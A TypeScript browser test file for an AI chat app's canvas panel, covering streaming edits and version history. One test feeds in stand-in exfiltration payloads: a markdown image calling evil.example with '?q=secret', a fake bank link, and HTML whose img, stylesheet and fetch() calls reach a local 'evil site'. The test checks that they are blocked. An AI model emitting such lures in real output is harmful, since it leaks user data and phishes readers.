import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { expect, test, vi } from "vitest";
import { promptFieldText } from "#product/texts/builder/prompt-field.ts";
import { artifactText } from "#product/texts/canvas/artifact.ts";
import { canvasPanelText } from "#product/texts/canvas/canvas-panel.ts";
import { buttonText } from "#product/texts/common/buttons.ts";
import { canvasCardText as text } from "#product/texts/tools/canvas-cards.ts";
import { versionHistoryText } from "#product/texts/versions/version-history.ts";
import { expectAccessible, signUpAtHome, visit } from "./support/browser.ts";
import { keepOrderInCanvases, send, waitForAnswer, writeAndEditCanvas } from "./support/canvas-journeys.ts";
import { modelServer } from "./support/model-server.ts";
import { saveScreenshot } from "./support/screenshot.ts";
import { callProcedure, findWorkspaceId } from "./support/seed-workspace.ts";

/** Its models answer from scripts. */
const own = modelServer();

/** A chat whose title is there already, so that only replies use the scripts that follow. */
async function openScriptedChat(page: Page) {
  const { slug } = await signUpAtHome({ page });
  await send(page, "Hello");
  await page.getByText("Echo: Hello").first().waitFor();
  await vi.waitUntil(() => own.double.requests.length >= 2, { timeout: 30_000 });
  await waitForAnswer(page);
  const workspaceId = await findWorkspaceId(page, slug);
  const chatId = new URL(page.url()).pathname.split("/").at(-1) ?? "";
  return {
    listCanvases: () =>
      callProcedure<{ id: string; title: string }[]>(page, "artifact.getAll", { workspaceId, chatId }, "query"),
  };
}

/** Stops a model in the middle of its answer until it is opened. */
function createGate(after: number) {
  let open = () => {};
  const opened = new Promise<void>((resolve) => {
    open = resolve;
  });
  return { gate: { after, open: opened }, open: () => open() };
}

/** A site that waits for what a canvas sends away. */
async function startEvilSite() {
  const hits: string[] = [];
  const server = createServer((request, response) => {
    hits.push(request.url ?? "");
    response.writeHead(204).end();
  });
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/?q=secret`,
    hits,
    async close() {
      server.closeAllConnections();
      await new Promise((done) => server.close(done));
    },
  };
}

const toolCall = (name: string, input: object) => ({ toolCalls: [{ name, input }] });

test("on a desktop, an agent writes a canvas beside the chat, and a person edits it, restores a version and quotes it", () =>
  writeAndEditCanvas("desktop"));

test("a canvas grows in the panel while it is written, and a hand edit that comes in between is kept", async () => {
  const there = await visit({ baseUrl: own.baseUrl });
  const { page } = there;
  const { listCanvases } = await openScriptedChat(page);
  const panel = page.getByRole("region", { name: canvasPanelText.canvas });
  const writing = panel.getByText(canvasPanelText.writing, { exact: true });
  const article = panel.getByRole("article");

  const first = createGate(4);
  own.double.queueReply(toolCall("create_canvas", { kind: "TEXT", title: "Tides", task: "Explain the tides" }));
  own.double.queueReply({
    deltas: ["High water ", "comes at six. ", "Low water ", "comes at noon."],
    gate: first.gate,
  });
  own.double.queueReply({ text: "It is beside the chat." });
  await send(page, "Write about the tides");
  await writing.waitFor();
  await article.getByText("High water").waitFor();
  expect(await article.textContent()).not.toContain("noon");
  expect(await panel.getByRole("button", { name: buttonText.edit }).count()).toBe(0);
  await expectAccessible(page, "a canvas that is being written");
  await saveScreenshot(page, "canvas-growing");
  first.open();
  await article.getByText("comes at noon.").waitFor();
  await writing.waitFor({ state: "detached" });
  await waitForAnswer(page);

  // The edit reaches the server once the agent writes.
  const [canvas] = await listCanvases();
  const { open: sendEdit, gate: held } = createGate(0);
  await page.route("**/artifact.updateContent*", async (route) => {
    await held.open;
    await route.continue();
  });
  await panel.getByRole("button", { name: buttonText.edit }).click();
  await panel.getByRole("radio", { name: promptFieldText.richText.markdown }).click();
  await panel.getByRole("textbox", { name: artifactText.kinds.text }).fill("My own words about the tides.");
  const second = createGate(4);
  own.double.queueReply(toolCall("update_canvas", { documentId: canvas?.id, instructions: "Mention the moon" }));
  own.double.queueReply({ deltas: ["The moon ", "pulls ", "the water."], gate: second.gate });
  own.double.queueReply({ text: "The moon is in it." });
  await send(page, "Mention the moon");
  await writing.waitFor();
  await article.getByText("The moon").waitFor();
  sendEdit();
  await panel.getByText(canvasPanelText.keptEdit.isWriting).waitFor();
  await saveScreenshot(page, "canvas-kept-edit-writing");
  second.open();
  await article.getByText("pulls the water.").waitFor();
  await waitForAnswer(page);
  // It outlives the page.
  await page.reload();
  await page.getByText(text.updated).waitFor();
  await page
    .getByRole("button", { name: text.openCanvas("Tides") })
    .last()
    .click();
  await panel.getByRole("button", { name: canvasPanelText.keptEdit.compare }).click();
  await panel.getByRole("insertion").first().waitFor();
  await expectAccessible(page, "a kept edit");
  await saveScreenshot(page, "canvas-kept-edit");
  await panel.getByRole("button", { name: canvasPanelText.keptEdit.use }).click();
  await article.getByText("My own words about the tides.").waitFor();
  await panel.getByText(canvasPanelText.keptEdit.title).waitFor({ state: "detached" });
  await panel.getByRole("button", { name: versionHistoryText.title }).click();
  const history = page.getByRole("dialog", { name: versionHistoryText.title });
  await history
    .getByRole("button", { name: /^Compare/ })
    .first()
    .click();
  await history.getByRole("deletion").filter({ hasText: "The moon" }).waitFor();
  // The refused save is the only error.
  expect(there.errors.filter((error) => !error.includes("409"))).toEqual([]);
  await there.context.close();
});

test("a canvas that tries to send data away loads nothing by itself: as text, while it is edited, and as a page", async () => {
  const there = await visit({ baseUrl: own.baseUrl });
  const { page } = there;
  await openScriptedChat(page);
  const panel = page.getByRole("region", { name: canvasPanelText.canvas });
  const evil = await startEvilSite();
  const leak = "https://evil.example/?q=secret";
  const lure = `![chart](${leak})\n\n[https://bank.example](https://evil.example/login)\n\nRead this.`;
  own.double.queueReply(toolCall("create_canvas", { kind: "TEXT", title: "Offer", content: lure }));
  own.double.queueReply({ text: "Done." });
  await send(page, "Write the offer");
  await page.getByRole("button", { name: text.openCanvas("Offer") }).click();
  await page.getByText("Done.").waitFor();
  await waitForAnswer(page);
  const article = panel.getByRole("article");
  await article.getByRole("button", { name: "evil.example" }).waitFor();
  await article.getByText("(evil.example)").waitFor();
  expect(await article.locator("img[src]").count()).toBe(0);
  await expectAccessible(page, "an untrusted canvas");
  await saveScreenshot(page, "canvas-untrusted");
  await panel.getByRole("button", { name: buttonText.edit }).click();
  const editor = panel.getByRole("textbox", { name: artifactText.kinds.text });
  await editor.getByText("Read this.").waitFor();
  expect(await editor.locator("img[src]").count()).toBe(0);
  await panel.getByRole("button", { name: canvasPanelText.done }).click();
  expect(there.externalRequests).toEqual([]);

  own.double.queueReply(toolCall("create_canvas", { kind: "HTML", title: "Page", task: "A page" }));
  own.double.queueReply({
    text: `<!doctype html><html><body><h1>Offer</h1><img src="${evil.url}"><link rel="stylesheet" href="${evil.url}"><script>fetch("${evil.url}")</script></body></html>`,
  });
  own.double.queueReply({ text: "Done." });
  await send(page, "Write the page");
  await page.getByRole("button", { name: text.openCanvas("Page") }).click();
  await page.getByText("Done.").nth(1).waitFor();
  await waitForAnswer(page);
  const frame = panel.locator("iframe");
  await frame.waitFor();
  expect(await frame.getAttribute("sandbox")).toBe("");
  await frame.contentFrame().getByRole("heading", { name: "Offer" }).waitFor();
  await saveScreenshot(page, "canvas-untrusted-page");
  // The browser reports the requests that its policy stops, so only the site knows what arrived.
  expect(evil.hits).toEqual([]);
  await there.context.close();
  await evil.close();
});

test("on a phone, a person finds, renames and deletes the canvases of a chat", () => keepOrderInCanvases("phone"));
